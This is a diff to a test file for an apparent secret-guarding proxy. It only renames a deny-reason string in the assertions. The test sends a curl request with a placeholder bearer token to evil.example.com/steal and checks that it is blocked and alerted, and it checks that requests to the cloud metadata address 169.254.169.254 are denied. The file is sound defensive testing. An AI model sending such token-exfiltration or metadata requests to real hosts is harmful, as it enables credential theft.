@@ -68,7 +68,7 @@ test('add a secret, give the agent its placeholder, and the real value reaches o
 
   const blocked = await curl(['-x', proxy, '--cacert', join(dir, 'ca.pem'), '-H', `Authorization: Bearer ${ph}`, `https://evil.example.com:${port}/steal`]);
   assert.match(blocked, /HTTP\/1\.1 403/);
-  assert.match(blocked, /bastion-reason: placeholder\.foreign_host/i);
+  assert.match(blocked, /bastion-reason: release\.foreign_host/i);
   assert.ok(!echo.lines.some((l) => l.includes('/steal')), 'nothing reached the other host');
   assert.ok(served.lines.some((l) => /ALERT exfiltration: agent demo to evil\.example\.com/.test(l)), 'an alert was raised');
 
@@ -77,7 +77,7 @@ test('add a secret, give the agent its placeholder, and the real value reaches o
   assert.match(ssrf, /bastion-reason: ssrf\.address\.metadata/i);
 
   const tail = await cli(['audit', 'tail', '-n', '50', '--config', config]);
-  assert.match(tail.stdout, /demo GET evil\.example\.com:\d+ deny placeholder\.foreign_host/);
+  assert.match(tail.stdout, /demo GET evil\.example\.com:\d+ deny release\.foreign_host/);
   assert.match(tail.stdout, /demo GET 169\.254\.169\.254:80 deny ssrf\.address\.metadata/);
   assert.ok(!tail.stdout.includes(VALUE));
 
